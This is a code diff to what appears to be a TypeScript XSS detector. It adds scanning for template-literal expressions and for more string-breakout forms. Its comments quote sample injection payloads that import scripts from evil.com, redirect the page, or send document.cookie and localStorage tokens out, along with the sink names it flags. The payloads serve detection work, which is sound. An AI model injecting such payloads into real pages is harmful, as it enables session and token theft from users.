@@ -2396,6 +2396,146 @@ function scanJsIndirect(s: string, best: Best): boolean {
   return false;
 }
 
+/** scanTemplateCode's names, by kind: called, `location`, a keyword before them, a root before `.`. */
+const TPL_CALL = 1;
+const TPL_LOCATION = 2;
+const TPL_PREFIX = 4;
+const TPL_ROOT = 8;
+/**
+ * Those names as a trie over ASCII (next: state × 128 → state, 0 = none; kind: TPL_* of the name
+ * ending at a state), as BO_TRIE: a `${` before any other word is left at its first character or
+ * two, with no map lookup (`${a` repeated cost ~26 ns a `${` with maps and startsWith).
+ * (Not the timers: `${setInterval(tick, 1000)}` passes a function; a string of code there is
+ * scanJsSinks'. Not atob, open, write: `${atob(s)}` decodes for display.)
+ */
+const TPL_TRIE = ((): { next: Uint16Array; kind: Uint8Array } => {
+  const lists: Array<[number, string]> = [
+    [TPL_CALL, 'import fetch eval Function sendBeacon WebSocket EventSource alert prompt confirm'],
+    [TPL_LOCATION, 'location'],
+    [TPL_PREFIX, 'new await void'],
+    [TPL_ROOT, 'window self top parent globalThis navigator document'],
+  ];
+  let states = 1;
+  for (const [, names] of lists) states += names.replaceAll(' ', '').length;
+  const next = new Uint16Array(states * 128);
+  const kind = new Uint8Array(states);
+  let used = 1;
+  for (const [k, names] of lists) {
+    for (const name of names.split(' ')) {
+      let st = 0;
+      for (let i = 0; i < name.length; i++) {
+        const at = st * 128 + name.charCodeAt(i);
+        if (next[at] === 0) next[at] = used++;
+        st = next[at] as number;
+      }
+      kind[st] = (kind[st] as number) | k;
+    }
+  }
+  return { next, kind };
+})();
+
+/** The identifier at `k` (ASCII), ending at most `max` characters on: its end. O(max). */
+function identEnd(s: string, k: number, max: number): number {
+  let e = k;
+  while (e < s.length && e - k < max && s.charCodeAt(e) < 128 && (IDENT_ASCII[s.charCodeAt(e)] as number) !== 0) e++;
+  return e;
+}
+
+/** 1 for the characters a `${` may be followed by for scanTemplateCode: blanks and TPL_TRIE first letters. */
+const TPL_FIRST = ((): Uint8Array => {
+  const t = new Uint8Array(128);
+  for (let c = 0; c < 128; c++) if (c <= 32 || (TPL_TRIE.next[c] as number) !== 0) t[c] = 1;
+  return t;
+})();
+
+/** Where the name tplName read ends. */
+let tplEnd = 0;
+
+/**
+ * The TPL_* kind of the whole identifier at `k` (0: none, or no identifier): walked along TPL_TRIE,
+ * left at the first character no name continues with. Sets tplEnd. O(name).
+ */
+function tplName(s: string, k: number): number {
+  const next = TPL_TRIE.next;
+  let st = 0;
+  let e = k;
+  for (; e < s.length; e++) {
+    const c = s.charCodeAt(e);
+    if (c >= 128 || (IDENT_ASCII[c] as number) === 0) break;
+    st = next[st * 128 + c] as number;
+    if (st === 0) return 0;
+  }
+  tplEnd = e;
+  return TPL_TRIE.kind[st] as number;
+}
+
+/**
+ * `${import('//evil.com/x.js')}`, `${fetch('//x?'+document.cookie)}`, `${location='//evil.com'}`: a
+ * value placed in a template literal (`` var x = `<value>` ``) runs its `${…}` without closing
+ * anything, so the breakout frame's quote and comment are not needed (session 20: passed). What
+ * counts is narrow, a capability at the start of the expression: after `${`, blanks, `new` / `await` /
+ * `void`, one global root and `.`, a TPL_CALL name called (`(` or a backtick), or `location`
+ * assigned (`=`, `.href=`) or sent (`.assign(`, `.replace(`). Template code reads values
+ * (`${location.origin}`, `${localStorage.token}`, `${atob(s)}`, `${fmt(x)}`), which stay quiet.
+ * Judges the `${` at `d`: 1 (a call), 2 (location), 0. O(1): at most ~70 characters read.
+ */
+function templateCodeAt(s: string, d: number): number {
+  const n = s.length;
+  let k = d + 2;
+  while (k < n && k - d < 10 && s.charCodeAt(k) <= 32) k++;
+  let kind = tplName(s, k);
+  if (kind & TPL_PREFIX) {
+    k = tplEnd;
+    while (k < n && k - tplEnd < 4 && s.charCodeAt(k) <= 32) k++;
+    kind = tplName(s, k);
+  }
+  if (kind & TPL_ROOT && s.charCodeAt(tplEnd) === 46) kind = tplName(s, tplEnd + 1);
+  if ((kind & (TPL_CALL | TPL_LOCATION)) === 0) return 0;
+  const e = tplEnd;
+  let f = e;
+  while (f < n && f - e < 4 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
+  const c = s.charCodeAt(f);
+  if (kind & TPL_CALL) return c === 40 || c === 96 ? 1 : 0;
+  let g = f;
+  if (c === 46) {
+    const m = identEnd(s, f + 1, 8);
+    const name = s.slice(f + 1, m);
+    g = m;
+    while (g < n && g - m < 4 && (s.charCodeAt(g) === 32 || s.charCodeAt(g) === 9)) g++;
+    if ((name === 'assign' || name === 'replace') && s.charCodeAt(g) === 40) return 2;
+    if (name !== 'href') return 0;
+  }
+  return s.charCodeAt(g) === 61 && s.charCodeAt(g + 1) !== 61 ? 2 : 0;
+}
+
+/**
+ * Every `${` of the value judged by templateCodeAt: one character loop from the first, and before
+ * the call the first name walked along TPL_TRIE in place (a native search per `${`, then a call per
+ * `${`, cost 1 MB of `${a` ~5-12 µs/KB). O(1) more per `${`.
+ */
+function scanTemplateCode(s: string, best: Best): boolean {
+  const next = TPL_TRIE.next;
+  const kinds = TPL_TRIE.kind;
+  const last = s.length - 2;
+  for (let d = s.indexOf('${'); d !== -1 && d < last; d++) {
+    if (s.charCodeAt(d) !== 36 || s.charCodeAt(d + 1) !== 123) continue;
+    let k = d + 2;
+    let c = s.charCodeAt(k);
+    while (c <= 32 && k - d < 10) c = s.charCodeAt(++k);
+    let st = 0;
+    while (c < 128 && (IDENT_ASCII[c] as number) !== 0) {
+      st = next[st * 128 + c] as number;
+      if (st === 0) break;
+      c = s.charCodeAt(++k);
+    }
+    if (st === 0 || (kinds[st] as number) === 0) continue;
+    const hit = templateCodeAt(s, d);
+    if (hit === 1) return best.add('js-breakout', 'high', 'A template literal expression that loads, sends or runs code (import, fetch, eval, …).');
+    if (hit === 2) return best.add('js-breakout', 'high', 'A template literal expression that redirects the page (location).');
+  }
+  return false;
+}
+
 /**
  * Netscape JavaScript entities outside an attribute: `&{document.cookie=true;};`. An `&{` counts when
  * its first `}` lies within 256 characters and a `(` or `=` comes before that `}`. Both "first at or
@@ -2533,7 +2673,27 @@ function quoteHead(s: string): boolean {
   let k = 0;
   while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
   while (k < s.length && k < 10 && s.charCodeAt(k) === 92) k++;
-  return isQuote(s.charCodeAt(k));
+  return isQuote(s.charCodeAt(k)) || prefixedQuote(s, k) !== -1;
+}
+
+/**
+ * The string's text may come before the quote that closes it: `a';import('//evil.com/x.js')//` in
+ * `var x = '<value>'` is `var x = 'a';import(…)//'` (session 20: it passed, the quote had to come
+ * first). Up to 16 identifier characters ([A-Za-z0-9_$]) and 2 backslashes at `k`, then a quote:
+ * its index, or -1. No blank, so a sentence with an apostrophe later on is not one. O(1).
+ */
+function prefixedQuote(s: string, k: number): number {
+  const n = s.length;
+  let j = k;
+  while (j < n && j - k < 16) {
+    const c = s.charCodeAt(j);
+    if (c >= 128 || (IDENT_ASCII[c] as number) === 0) break;
+    j++;
+  }
+  if (j === k) return -1;
+  const b = j;
+  while (j < n && j - b < 2 && s.charCodeAt(j) === 92) j++;
+  return isQuote(s.charCodeAt(j)) ? j : -1;
 }
 
 /**
@@ -2574,12 +2734,20 @@ function breakoutFrame(s: string): number {
     // A number context (`var id = <value>;`): `1;import('//evil.com/x.js')//`. Digits only (at most
     // 20, one optional leading minus), closed by a `//` comment only: no string was open to reopen.
     const d0 = k;
+    const pq = prefixedQuote(s, k);
     if (q === 45) k++;
     while (k < n && k - d0 <= 20 && isDigit(s.charCodeAt(k))) k++;
-    if (k === d0 || !isDigit(s.charCodeAt(k - 1)) || k - d0 > 20) return -1;
-    while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
-    if (!numberJoin(s, k)) return -1;
-    q = -1;
+    const digits = !(k === d0 || !isDigit(s.charCodeAt(k - 1)) || k - d0 > 20);
+    if (digits) while (k < n && k - d0 < 24 && (s.charCodeAt(k) === 41 || s.charCodeAt(k) === 93)) k++;
+    if (digits && numberJoin(s, k)) {
+      q = -1;
+    } else if (pq !== -1) {
+      // Text of the string, then its closing quote (prefixedQuote).
+      q = s.charCodeAt(pq);
+      k = pq + 1;
+    } else {
+      return -1;
+    }
   } else {
     k++;
   }
@@ -2601,26 +2769,52 @@ function breakoutFrame(s: string): number {
     }
     break;
   }
-  if (k >= n || !isJoinOp(s.charCodeAt(k))) return -1;
-  const head = k + 1;
+  if (k >= n) return -1;
+  // In a quoted context the string may also be closed by a conditional (`'?import(…):'`: the branch
+  // runs when the text before the quote is not empty, `'?…:import(…)//` whatever it is) or by the
+  // `in` / `instanceof` operators (`'in import(…)in'`: the operand is evaluated, and the import
+  // requested, before the TypeError). `??` is read as `?` (a string is never nullish, so `'??x??'`
+  // never runs x, but nobody writes it for another reason). (Session 20: all three passed.)
+  const op = s.charCodeAt(k);
+  let word = 0;
+  if (q !== -1 && op === 105 && s.charCodeAt(k + 1) === 110) {
+    word = s.startsWith('instanceof', k) ? 10 : 2;
+    const after = s.charCodeAt(k + word);
+    if (!(after === 32 || after === 9 || after === 40 || after === 91 || after === 47)) return -1;
+  } else if (!isJoinOp(op) && !(q !== -1 && op === 63)) return -1;
+  const head = word !== 0 ? k + word : k + 1;
   let e = n;
   while (e > head && s.charCodeAt(e - 1) <= 32) e--;
   if (e <= head) return -1;
-  // Reopened string: `…+'`, `…;var a='`, `…('`.
+  // A conditional has its `:` (`"?page=2&q=import(x)//"` is no code: one native search).
+  if (op === 63 && s.charCodeAt(head) !== 63 && s.indexOf(':', head) === -1) return -1;
+  // Reopened string: `…+'`, `…;var a='`, `…('`, and after the head's own operator (`…:'`, `…in'`).
   if (q !== -1 && s.charCodeAt(e - 1) === q) {
     let j = e - 2;
     while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
     const c = j >= head ? s.charCodeAt(j) : -1;
-    if (c !== -1 && (isJoinOp(c) || c === 61 || c === 40)) {
-      boTail = j;
-      boStmtEnd = j;
+    const reopen =
+      c !== -1 &&
+      (isJoinOp(c) ||
+        c === 61 ||
+        c === 40 ||
+        (op === 63 && (c === 58 || c === 63)) ||
+        (word !== 0 && j - word + 1 > head && s.startsWith(word === 2 ? 'in' : 'instanceof', j - word + 1) && !isIdentChar(s.charCodeAt(j - word))));
+    if (reopen) {
+      boTail = word !== 0 && !isJoinOp(c) && c !== 61 && c !== 40 ? j - word + 1 : j;
+      boStmtEnd = boTail;
       return head;
     }
   }
   // A `//` comment that runs to the end of the value (no line break after it).
   // (Not a URL's `://`: a JSON fragment `", "u": "http://x/` closes and reopens no code.)
-  const t = s.lastIndexOf('//', e - 1);
-  if (t < head || s.charCodeAt(t - 1) === 58) return -1;
+  // Or an HTML-like `<!--` comment, which a classic script reads as `//` (`';fetch('https://…'+
+  // localStorage.t)<!--`: passed, session 20). Two native searches back from the end.
+  let t = s.lastIndexOf('//', e - 1);
+  if (t < head || s.charCodeAt(t - 1) === 58) t = -1;
+  const h = s.lastIndexOf('<!--', e - 1);
+  if (h >= head && h > t) t = h;
+  if (t === -1) return -1;
   for (let j = t + 2; j < e; j++) {
     const c = s.charCodeAt(j);
     if (c === 10 || c === 13 || c === 0x2028 || c === 0x2029) return -1;
@@ -2910,7 +3104,9 @@ const N_COLON_REF = 512;
  * (1 MB of `</a>x` read each tag twice, here and there: ~3 µs/KB).
  */
 const N_TAGS = 1024;
-const N_ALL = 2047;
+/** scanTemplateCode: a `${`. (N_INDIRECT is also set by any `[`, as in every JSON array.) */
+const N_TPL_CODE = 2048;
+const N_ALL = 4095;
 
 /** Can scanSchemes find anything? A colon (raw, or an `&` that may decode to one) and a trigger. */
 function schemesMayFire(f: number, need: number): boolean {
@@ -3163,6 +3359,9 @@ function prePass(value: string): void {
         }
         case X_BRACE: // {
           if (next === 123) need |= N_TPL;
+          // `${` before a blank or a letter some TPL_TRIE name starts with: with the characters the
+          // loop holds and one table load (`${${`, `${1}`, `${x}` leave scanTemplateCode unrun).
+          else if (prev === 36 && (next > 64 || next <= 32) && TPL_FIRST[next] === 1) need |= N_TPL_CODE;
           break;
         case X_BRACKET: // [
           need |= N_INDIRECT;
@@ -3303,6 +3502,8 @@ export function detectXss(value: string): Detection | undefined {
     !(f & F_COLON && need & N_CSS) &&
     !(f & (F_PAREN | F_BACKTICK) && need & (N_SINK | N_INDIRECT)) &&
     !(f & F_BRACE && need & (N_TPL | N_JSENT)) &&
+    // (scanTemplateCode: a call needs `(` or a backtick, an assignment `=`.)
+    !(need & N_TPL_CODE && f & (F_PAREN | F_BACKTICK | F_EQ)) &&
     !(need & N_DOM) &&
     // (scanBreakoutStatement: a value that starts with a quote, or a number glued to `;` and a name;
     // at most ~40 characters read, and an indexOf of `//` after such a number.)
@@ -3410,5 +3611,6 @@ export function detectXss(value: string): Detection | undefined {
   }
   if (roots !== undefined && scanDom(s, best, spans, roots)) return best.hit;
   if (!best.high && (quoteHead(s) || numberHead(s)) && scanBreakoutStatement(s, best)) return best.hit;
+  if (!best.high && need & N_TPL_CODE && f & (F_PAREN | F_BACKTICK | F_EQ) && scanTemplateCode(s, best)) return best.hit;
   return best.hit;
 }
